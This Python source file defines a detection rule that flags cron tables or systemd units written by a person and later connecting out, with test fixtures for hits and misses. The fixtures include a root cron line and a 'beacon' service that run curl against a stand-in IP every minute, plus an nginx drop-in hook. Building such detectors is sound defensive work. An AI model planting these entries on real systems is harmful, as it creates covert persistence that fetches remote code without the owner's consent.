"""A person wrote what runs by itself (cron, at, a unit); what it starts then connects to somewhere unknown.

The writing alone is a hint; with the connection it is more. What packages bring, and robots, is passed over.
"""

from __future__ import annotations

from collections.abc import Iterable

import msgspec

from evidence.kind import Actor
from evidence.kinds.connection import Close, Open, Report
from evidence.kinds.file import Change, Create, Explanation, Rename
from evidence.kinds.process import Ancestor, Exec
from evidence.kinds.state import Changed

from ..attribution.schedules import SEEN_LATE
from ..bounded import remember
from ..examples import DAY, SERVICE, WINDOW, alice, at_once, opened, sent
from ..measures.persistence import (
    OUT_LIMIT,
    UNITS,
    Host,
    Out,
    State,
    Written,
    goes_out,
    host_of,
    is_written,
    stem,
)
from ..measures.session_work import describe
from ..record import Record, SessionRevision, key_of
from ..rule import Correlation, Finding, Parameter, Site, connections_out

_WINDOW = Parameter("window", 14, "days", "what is to stay waits until nobody looks")
_NS = 1_000_000_000


class Touched(msgspec.Struct, frozen=True):
    """What has to be judged: the findings that an event of a host is part of."""

    uid: str
    agent: str
    host: str
    boot: str


def _step(state: State, record: Record, site: Site) -> Iterable[Finding]:
    body = record.event.body
    if isinstance(body, Open | Close | Report):
        if body.direction != "out" or not goes_out(state, record, body):
            return ()
    elif not isinstance(body, Changed | Create | Change | Rename) or not is_written(
        state, record, body, site
    ):
        return ()
    touched = Touched(record.uid, record.agent, record.host, record.boot)
    return _judge(host_of(state, record.agent), touched, site)


def _revised(state: State, session: SessionRevision, site: Site) -> Iterable[Finding]:
    """A session turns out to be a job's after it connected to somewhere."""
    host = state.hosts.get(session.agent)
    if host is None or session.person.how != "job":
        return ()
    out = host.sessions.pop(key_of(session.agent, session.boot, session.session), None)
    starts = session.person.because
    if out is None or host.names.keys().isdisjoint(starts):
        return ()
    remember(host.out, out.uid, msgspec.structs.replace(out, starts=starts), OUT_LIMIT)
    return _judge(host, Touched(out.uid, session.agent, session.host, session.boot), site)


def _judge(host: Host, touched: Touched, site: Site) -> Iterable[Finding]:
    """Tell of each file that the event touched: it itself, or what it started."""
    window = int(site.number(_ID, _WINDOW) * DAY) * _NS
    for path in sorted({one.path for one in host.written.values()}):
        writings = [one for one in host.written.values() if one.path == path]
        last = max(writings, key=lambda one: (one.runs != "", one.time, one.uid))
        uids = {one.uid for one in writings}
        first, unit = min(one.time for one in writings), stem(path) if path.startswith(UNITS) else None
        out = [
            one
            for one in host.out.values()
            if (unit in one.starts and 0 <= one.time - first <= window)
            or (not uids.isdisjoint(one.starts) and -SEEN_LATE <= one.time - first <= window)
        ]
        if touched.uid in uids or touched.uid in {one.uid for one in out}:
            yield _finding(touched, path, last, sorted(out, key=lambda one: (one.time, one.uid)))


def _finding(at: Touched, path: str, last: Written, out: list[Out]) -> Finding:
    runs = f" ({last.runs})" if last.runs else ""
    then = f"; what it starts connected to {out[0].destination}" if out else ""
    return Finding(
        entity=f"{at.agent}|{path}",
        summary=f"{describe(last.person)} made {path} run by itself on {at.host}{runs}{then}",
        time=out[0].time if out else last.time,
        agent=at.agent,
        host=at.host,
        evidence=(last.uid, *[one.uid for one in out[:1]]),
        person=last.person,
        severity="medium" if out else "low",
        destination=out[0].destination if out else None,
        details={"path": path},
        boot=at.boot,
    )


_ID = "persistence-egress"
_UNIT = "/etc/systemd/system/beacon.service"
_CRON = "/etc/cron.d/sync"
_LINE = "* * * * * root /usr/bin/curl -s https://203.0.113.9/x"
_BEACON = Actor(pid=80, exe="/usr/bin/curl", uid=0, unit="beacon.service")
_NGINX = Actor(pid=81, exe="/usr/sbin/nginx", uid=0, unit="nginx.service")


def _unit(path: str = _UNIT, line: str = "Service.ExecStart=/usr/bin/curl", **fields: object) -> Changed:
    values = {"source": "units", "subject": path, "path": path, "change": "appeared", "added": (line,)}
    return Changed(**{**values, "actor": alice("/usr/bin/tee"), **fields})  # type: ignore[arg-type]


_TABLE = Changed(
    source="cron", subject=_CRON, path=_CRON, change="appeared", added=(_LINE,), actor=alice("/usr/bin/tee")
)
_JOB = Exec(
    pid=60,
    start=9_000_000_000,
    ppid=59,
    exe="/bin/sh",
    argv=("/bin/sh", "-c", "/usr/bin/curl -s https://203.0.113.9/x"),
    uid=0,
    auid=0,
    session=30,
    user="root",
    ancestry=(Ancestor(pid=59, exe="/usr/sbin/cron"), Ancestor(pid=3, exe="/usr/sbin/cron")),
)
_FETCH = Actor(pid=60, start=9_000_000_000, exe="/bin/sh", uid=0, auid=0, session=30)

CORRELATION = Correlation(
    id=_ID,
    version=1,
    title="What a person made run by itself connects out",
    severity="medium",
    attack=("T1053.003", "T1543.002"),
    kinds=(Changed, Create, Change, Rename, Open, Close, Report),
    state=State,
    step=_step,
    revised=_revised,
    parameters=(_WINDOW,),
    connections=connections_out,
    hits=(
        at_once("a unit of theirs connects out", opened(), _unit(), sent(900, actor=_BEACON)),
        at_once(
            "by a timer of its name",
            opened(),
            _unit("/etc/systemd/system/beacon.timer", "Service.ExecStart=/x"),
            sent(900, actor=_BEACON),
        ),
        at_once("a table of cron", opened(), _TABLE, _JOB, sent(900, actor=_FETCH)),
        at_once("the table is told after the job ran", opened(), _JOB, sent(900, actor=_FETCH), _TABLE),
        at_once("the writing alone: a hint", opened(), _TABLE),
        at_once(
            "no sensor of state, only the file", opened(), Create(path=_CRON, actor=alice("/usr/bin/vi"))
        ),
        at_once(
            "a drop-in for a service that was there",
            opened(),
            _unit("/etc/systemd/system/nginx.service.d/x.conf", "Service.ExecStartPost=/x"),
            sent(900, actor=_NGINX),
        ),
    ),
    misses=(
        at_once(
            "apt installs a timer",
            opened(),
            _unit(explained_by=Explanation(package="apt", matches=True)),
            sent(900, actor=_BEACON),
        ),
        at_once("dpkg writes it for a person", opened(), _unit(actor=alice("/usr/bin/dpkg"))),
        at_once(
            "a packaged unit is enabled", opened(), _unit(line="link to /lib/systemd/system/nginx.service")
        ),
        at_once("a unit's memory is limited", opened(), _unit(line="Service.MemoryMax=1G")),
        at_once("a service writes its own", _unit(actor=Actor(pid=5, uid=0)), sent(900, actor=_BEACON)),
        at_once("another unit connects out", opened(), sent(900, actor=_NGINX)),
        at_once("a job that nobody was seen to write", _JOB, sent(900, actor=_FETCH)),
        at_once("announced work", opened(), _unit(), sent(900, actor=_BEACON), organisation=WINDOW),
        at_once("a robot's account", opened(), _unit(), sent(900, actor=_BEACON), organisation=SERVICE),
    ),
)
